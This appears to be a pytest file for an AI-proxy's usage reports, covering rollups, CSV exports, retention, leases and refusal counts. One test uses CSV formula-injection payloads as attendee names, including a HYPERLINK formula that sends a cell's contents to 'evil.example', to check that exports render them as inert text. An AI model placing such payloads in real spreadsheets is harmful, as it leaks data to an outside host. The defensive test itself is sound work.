"""Usage rolls up into daily totals idempotently; reports match the records; retention is safe."""

from __future__ import annotations

import asyncio
import csv
import io
import time
from collections import Counter
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import httpx
import openai
import pytest

from local.azurite import Azurite
from shared.governance import rollups
from shared.governance.rollups import REFUSALS
from shared.governance.usage import DAYS_TABLE, UsageRecord, UsageWriter
from shared.platform.settings import load
from shared.platform.tables import Tables
from tests.harness import CHAT, AppHost, EventSetup, Simulator, Storage, run_timer, unique_prefix

NUMBERS = (
    "prompt_tokens", "completion_tokens", "total_tokens", "units",
    "cached_tokens", "reasoning_tokens", "audio_tokens", "cost_nano", "unpriced", "audio_output_tokens",
)  # fmt: skip


def traffic(host: AppHost, setup: EventSetup, users: int = 3) -> list[str]:
    keys = [setup.key] + [
        setup.add_attendee(f"user{i}@example.com")["api_key"] for i in range(users - 1)
    ]
    for n, key in enumerate(keys):
        client = openai.AzureOpenAI(
            azure_endpoint=host.base, api_key=key, api_version="2024-10-21", max_retries=0
        )
        for _ in range(n + 1):
            client.chat.completions.create(
                model="gpt-4o-mini", messages=[{"role": "user", "content": "hi"}], max_tokens=4 + n
            )
        client.embeddings.create(model="text-embedding-3-small", input="some words here")
    return keys


def expected(records: list[dict[str, Any]], key: str) -> dict[str, dict[str, int]]:
    totals: dict[str, Counter[str]] = {}
    for record in records:
        group = totals.setdefault(record[key], Counter())
        group["requests"] += 1
        for name in NUMBERS:
            group[name] += int(record[name])
    return {k: dict(v) for k, v in totals.items()}


def test_report_by_attendee_and_deployment_equals_the_records(
    host: AppHost, event: EventSetup, storage: Storage
) -> None:
    traffic(host, event)
    records = storage.usage(event.id, expect=9)
    assert len(records) == 9
    by_attendee = host.manage.get(
        f"/events/{event.id}/usage", params={"group_by": "attendee"}
    ).json()
    got = {r["attendee_id"]: {k: r[k] for k in ("requests", *NUMBERS)} for r in by_attendee["rows"]}
    assert got == expected(records, "attendee_id")
    assert {r["user"] for r in by_attendee["rows"]} == {
        "attendee@example.com", "user0@example.com", "user1@example.com"
    }  # fmt: skip
    assert by_attendee["totals"]["requests"] == 9
    assert by_attendee["totals"]["total_tokens"] == sum(r["total_tokens"] for r in records)
    # Every call here is priced (gpt-4o-mini, text-embedding-3-small), at the table's prices.
    assert by_attendee["totals"]["unpriced"] == 0
    assert by_attendee["totals"]["cost_nano"] == sum(r["cost_nano"] for r in records) > 0
    assert {r["price_source"].partition("@")[0] for r in records} == {
        "gpt-4o-mini", "text-embedding-3-small"
    }  # fmt: skip
    by_deployment = host.manage.get(f"/events/{event.id}/usage", params={"group_by": "deployment"})
    rows = {r["deployment"]: r for r in by_deployment.json()["rows"]}
    assert rows["gpt-4o-mini"]["requests"] == 6 and rows["text-embedding-3-small"]["requests"] == 3
    by_day = host.manage.get(f"/events/{event.id}/usage", params={"group_by": "day"}).json()
    assert len(by_day["rows"]) == 1 and by_day["rows"][0]["requests"] == 9


def test_csv_report_has_the_same_totals(host: AppHost, event: EventSetup, storage: Storage) -> None:
    traffic(host, event, users=2)
    records = storage.usage(event.id, expect=5)
    response = host.manage.get(
        f"/events/{event.id}/usage", params={"group_by": "attendee", "format": "csv"}
    )
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    refused = [f"refused_{reason}" for reason in REFUSALS]
    assert list(rows[0]) == ["attendee_id", "user", "requests", *NUMBERS, "cost", *refused]
    assert sum(int(r["requests"]) for r in rows) == len(records) == 5
    assert sum(int(r["total_tokens"]) for r in rows) == sum(r["total_tokens"] for r in records)
    spent = sum(r["cost_nano"] for r in records)
    assert spent > 0 and sum(int(r["cost_nano"]) for r in rows) == spent
    assert sum(Decimal(r["cost"]) for r in rows) == Decimal(spent) / 10**9


@pytest.mark.e2e  # the report as the worker writes it
def test_attendee_names_cannot_act_as_formulas_in_the_csv(
    app_host: AppHost, event: EventSetup, storage: Storage
) -> None:
    host = app_host
    # (No ':' in a name: those are kept for signed-in attendees.)
    names = ['=HYPERLINK("evil.example/?d="&A1,"open")', "@sum(1+1)", "+1-2", "-3"]
    for name in names:
        key = event.add_attendee(name)["api_key"]
        body = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 4}
        answer = host.http.post(CHAT, json=body, headers={"api-key": key})
        assert answer.status_code == 200, answer.text
    storage.usage(event.id, expect=len(names))
    response = host.manage.get(
        f"/events/{event.id}/usage", params={"group_by": "attendee", "format": "csv"}
    )
    rows = {row["user"]: row for row in csv.DictReader(io.StringIO(response.text))}
    cells = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    stored = {a["user"] for a in host.manage.get(f"/events/{event.id}/attendees").json()}
    for name in stored - {"attendee@example.com"}:
        assert "'" + name in rows, (name, list(rows))  # shown as text, never run
        assert rows["'" + name]["requests"] == "1"  # numbers stay numbers
        assert not rows["'" + name]["attendee_id"].startswith("'")
    assert len(stored) == len(names) + 1


def test_attendee_list_carries_totals(host: AppHost, event: EventSetup, storage: Storage) -> None:
    traffic(host, event, users=2)
    records = storage.usage(event.id, expect=5)
    listed = {a["user"]: a for a in host.manage.get(f"/events/{event.id}/attendees").json()}
    mine = [r for r in records if r["attendee_id"] == event.attendee["id"]]
    assert listed["attendee@example.com"]["requests"] == len(mine) == 2
    assert listed["attendee@example.com"]["total_tokens"] == sum(r["total_tokens"] for r in mine)


def test_rollup_timer_is_idempotent_and_picks_up_late_records(
    host: AppHost, event: EventSetup, storage: Storage
) -> None:
    keys = traffic(host, event, users=2)
    records = storage.usage(event.id, expect=5)
    run_timer(host, "rollup_usage")
    first = {
        r["RowKey"]: {k: r[k] for k in ("requests", *NUMBERS)}
        for r in storage.rows("rollups", f"PartitionKey eq '{event.id}'")
    }
    run_timer(host, "rollup_usage")
    again = {
        r["RowKey"]: {k: r[k] for k in ("requests", *NUMBERS)}
        for r in storage.rows("rollups", f"PartitionKey eq '{event.id}'")
    }
    assert first == again
    assert sum(v["requests"] for v in first.values()) == len(records)
    # A record that arrives after the rollup ran is counted by the next run.
    host.http.post(
        "/openai/deployments/gpt-4o-mini/chat/completions?api-version=2024-10-21",
        json={"messages": [{"role": "user", "content": "late"}], "max_tokens": 3},
        headers={"api-key": keys[0]},
    )
    storage.usage(event.id, expect=6)
    run_timer(host, "rollup_usage")
    later = storage.rows("rollups", f"PartitionKey eq '{event.id}'")
    assert sum(r["requests"] for r in later) == 6


def test_retention_deletes_only_rolled_up_days(host: AppHost, storage: Storage) -> None:
    """Two old days of raw records: one rolled up since its last write, one not."""
    table = storage.service.create_table_if_not_exists(storage.prefix + "usage")
    days = storage.service.create_table_if_not_exists(storage.prefix + "usagedays")
    event_id = "retentiontest"
    for day, rolled in (("20250101", True), ("20250102", False)):
        for n in range(3):
            table.upsert_entity({
                "PartitionKey": f"{event_id}_{day}", "RowKey": f"{day}T000000_{n}",
                "event_id": event_id, "attendee_id": "a", "deployment": "d",
                "prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2, "units": 0,
            })  # fmt: skip
        bucket = f"{day}T000"  # the 10-minute bucket of the row keys above
        marker = {"PartitionKey": event_id, "RowKey": f"{day}|{bucket}", "last_write": 100.0}
        if rolled:
            marker["rolled_at"] = 200.0
        days.upsert_entity(marker)
    run_timer(host, "prune_usage")
    left = Counter(r["PartitionKey"] for r in storage.rows("usage", f"event_id eq '{event_id}'"))
    assert left == {f"{event_id}_20250102": 3}  # the day not rolled up keeps its records


def test_report_refuses_an_unknown_grouping(host: AppHost, event: EventSetup) -> None:
    response = host.manage.get(f"/events/{event.id}/usage", params={"group_by": "colour"})
    assert response.status_code == 400
    assert response.json()["error"]["param"] == "group_by"
    response = host.manage.get(f"/events/{event.id}/usage", params={"format": "xml"})
    assert response.status_code == 400


def test_a_rollup_reads_only_the_buckets_written_since_the_last_one(
    host: AppHost, event: EventSetup, storage: Storage
) -> None:
    traffic(host, event, users=1)
    storage.usage(event.id, expect=2)
    run_timer(host, "rollup_usage")
    markers = storage.rows("usagedays", f"PartitionKey eq '{event.id}'")
    assert markers and all("|" in m["RowKey"] for m in markers)
    assert all(m["rolled_at"] >= m["last_write"] for m in markers)
    parts = storage.rows("rollupparts", f"PartitionKey eq '{event.id}'")
    assert len(parts) == len(markers)  # one subtotal entity per bucket
    rolled = {m["RowKey"]: m["rolled_at"] for m in markers}
    run_timer(host, "rollup_usage")  # nothing new: no bucket is read again
    again = {
        m["RowKey"]: m["rolled_at"]
        for m in storage.rows("usagedays", f"PartitionKey eq '{event.id}'")
    }
    assert again == rolled


def race_record(n: int, now: datetime) -> UsageRecord:
    return UsageRecord(
        event_id="race", attendee_id=f"a{n}", deployment="d", resource_id="r",
        model_class="openai-chat", status=200, prompt_tokens=10, completion_tokens=2,
        total_tokens=12, streamed=False, estimated=False, latency_ms=1.0, time=now,
        local_date=now.strftime("%Y%m%d"), request_id=f"race{n}",
    )  # fmt: skip


async def tables_with_records(azurite: Azurite, name: str, count: int = 3) -> Tables:
    tables = Tables(load({"AIPROXY_STORAGE_CONNECTION_STRING": azurite.connection_string,
                          "AIPROXY_TABLE_PREFIX": unique_prefix(name)}))  # fmt: skip
    await write_records(tables, count)
    return tables


async def write_records(tables: Tables, count: int, first: int = 0) -> None:
    writer = UsageWriter(tables, flush_seconds=0.05)
    now = datetime.now(UTC)
    for n in range(first, first + count):
        writer.append(race_record(n, now))
    await writer.close()  # written, and their bucket marked as written to


def first_sum_waits(monkeypatch: pytest.MonkeyPatch) -> tuple[asyncio.Event, asyncio.Event]:
    """The first roll-up's day sum stops before it writes the totals: `paused` once it does,
    until `go`."""
    paused, go = asyncio.Event(), asyncio.Event()
    sum_day = rollups._sum_day

    async def first_waits(*args: Any) -> None:
        if not paused.is_set():
            paused.set()
            await go.wait()
        await sum_day(*args)

    monkeypatch.setattr(rollups, "_sum_day", first_waits)
    return paused, go


def buckets_rolled(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The buckets each roll-up reads, in order, from now on."""
    rolled: list[str] = []
    roll_up_bucket = rollups._roll_up_bucket

    async def counted(*args: Any) -> None:
        rolled.append(args[3])  # the bucket
        await roll_up_bucket(*args)

    monkeypatch.setattr(rollups, "_roll_up_bucket", counted)
    return rolled


async def test_a_report_while_another_rolls_up_reads_fresh_totals(
    azurite: Azurite, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The console asks for four reports at once, and each rolls up first. One that found the
    buckets marked rolled up while another request was still writing the day's totals read the
    totals of before (a chart of the console stayed empty once): buckets are marked only once
    their day's totals are written."""
    tables = await tables_with_records(azurite, "rollrace")
    paused, go = first_sum_waits(monkeypatch)
    # Another instance's roll-up: this process's own ones wait for each other (below).
    first = asyncio.create_task(rollups._roll_up(tables, "race"))
    try:
        await asyncio.wait_for(paused.wait(), 30)
        fresh = await asyncio.wait_for(rollups.report(tables, "race", "attendee", {}), 30)
        assert fresh["totals"]["requests"] == 3
        assert sorted(row["attendee_id"] for row in fresh["rows"]) == ["a0", "a1", "a2"]
        go.set()
        await asyncio.wait_for(first, 30)
        # Both roll-ups ended: the day's totals still hold every call, once.
        rows = await tables.partition(rollups.ROLLUPS_TABLE, "race")
        assert sum(int(row.get("requests", 0)) for row in rows) == 3
        markers = await tables.partition(DAYS_TABLE, "race")
        assert markers and all(m["rolled_at"] >= m["last_write"] for m in markers)
    finally:
        go.set()
        await tables.close()


async def test_reports_asked_at_once_roll_each_bucket_up_once(
    azurite: Azurite, monkeypatch: pytest.MonkeyPatch
) -> None:
    tables = await tables_with_records(azurite, "rollonce")
    rolled = buckets_rolled(monkeypatch)
    try:
        reports = await asyncio.wait_for(
            asyncio.gather(
                *(rollups.report(tables, "race", group, {}) for group in rollups.GROUPS)
            ),
            30,
        )
    finally:
        await tables.close()
    assert all(report["totals"]["requests"] == 3 for report in reports)
    assert len(rolled) == 1  # the first rolled the bucket up; the others found it done


async def test_a_report_waits_for_another_instances_roll_up_of_its_event(
    azurite: Azurite, monkeypatch: pytest.MonkeyPatch
) -> None:
    tables = await tables_with_records(azurite, "rolllease")
    paused, go = first_sum_waits(monkeypatch)
    rolled = buckets_rolled(monkeypatch)
    refused = asyncio.Event()
    take_lease = rollups._take_lease

    async def watched(*args: Any) -> bool:
        taken = await take_lease(*args)
        if not taken:
            refused.set()
        return taken

    monkeypatch.setattr(rollups, "_take_lease", watched)
    try:
        # Another instance's roll-up of the event, holding its lease, stops before the totals.
        other = asyncio.create_task(rollups._roll_up_leased(tables, "race", 0.0))
        await asyncio.wait_for(paused.wait(), 30)
        report = asyncio.create_task(rollups.report(tables, "race", "attendee", {}))
        await asyncio.wait_for(refused.wait(), 30)  # the report found the lease held
        assert not report.done()
        go.set()
        fresh = await asyncio.wait_for(report, 30)
        await asyncio.wait_for(other, 30)
        assert fresh["totals"]["requests"] == 3
        assert len(rolled) == 1  # the report read the other's totals, not the records again
        lease = await tables.get(rollups.LEASES_TABLE, "race", rollups.LEASE_ROW)
        assert lease is not None and lease["holder"] == "" and lease["until"] == 0.0  # given back
    finally:
        go.set()
        await tables.close()


async def test_a_lease_is_taken_over_once_it_expires_and_the_timer_passes_a_held_one_by(
    azurite: Azurite,
) -> None:
    tables = await tables_with_records(azurite, "rollexpiry")
    try:
        lease = {"PartitionKey": "race", "RowKey": rollups.LEASE_ROW, "holder": "gone",
                 "until": time.time() - 1}  # fmt: skip
        await tables.insert(rollups.LEASES_TABLE, lease)  # its holder died: it expired
        done = await asyncio.wait_for(rollups.roll_up(tables, "race"), 30)
        assert done.buckets == 1

        await write_records(tables, 2, first=3)  # the bucket has records to roll up again
        held = {**lease, "holder": "alive", "until": time.time() + 60}
        await tables.upsert(rollups.LEASES_TABLE, held)  # another instance is rolling it up
        passed_by = await asyncio.wait_for(rollups.roll_up(tables), 30)  # the timer's pass
        assert passed_by.buckets == 0  # left to the holder
        await tables.upsert(rollups.LEASES_TABLE, {**held, "until": time.time() - 1})
        timer = await asyncio.wait_for(rollups.roll_up(tables), 30)
        assert timer.buckets == 1
        report = await rollups.report(tables, "race", "day", {})
        assert report["totals"]["requests"] == 5
    finally:
        await tables.close()


def test_reports_show_refusals_by_reason_and_attendees_active_by_hour(
    host: AppHost, sim: Simulator
) -> None:
    setup = EventSetup(host, sim, requests_per_minute=2)
    other = setup.add_attendee("other@example.com")
    chat = "/openai/deployments/gpt-4o-mini/chat/completions?api-version=2024-10-21"
    body = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 4}
    statuses = [
        host.http.post(chat, json=body, headers={"api-key": setup.key}).status_code
        for _ in range(5)
    ]
    assert statuses == [200, 200, 429, 429, 429]
    assert host.http.post(chat, json=body, headers={"api-key": other["api_key"]}).status_code == 200

    def usage(group_by: str, **params: str) -> httpx.Response:
        return host.manage.get(f"/events/{setup.id}/usage", params={"group_by": group_by, **params})

    by_attendee = usage("attendee").json()
    rows = {row["user"]: row for row in by_attendee["rows"]}
    assert rows["attendee@example.com"]["refused"]["requests_per_minute"] == 3
    assert rows["attendee@example.com"]["requests"] == 2
    assert set(rows["other@example.com"]["refused"].values()) == {0}
    assert by_attendee["totals"]["refused"]["requests_per_minute"] == 3
    assert sum(by_attendee["totals"]["refused"].values()) == 3
    by_day = usage("day").json()
    assert sum(r["refused"]["requests_per_minute"] for r in by_day["rows"]) == 3
    table = list(csv.DictReader(io.StringIO(usage("attendee", format="csv").text)))
    refused = {r["user"]: int(r["refused_requests_per_minute"]) for r in table}
    assert refused == {"attendee@example.com": 3, "other@example.com": 0}

    by_hour = usage("hour").json()
    assert sum(r["requests"] for r in by_hour["rows"]) == 3
    assert sum(r["new_attendees"] for r in by_hour["rows"]) == 2  # each is new once
    assert max(r["active_attendees"] for r in by_hour["rows"]) >= 1
    assert by_hour["totals"]["active_attendees"] == 2
    assert by_hour["rows"][-1]["hour"].endswith(":00:00Z")
    hours = list(csv.DictReader(io.StringIO(usage("hour", format="csv").text)))
    assert sum(int(r["new_attendees"]) for r in hours) == 2
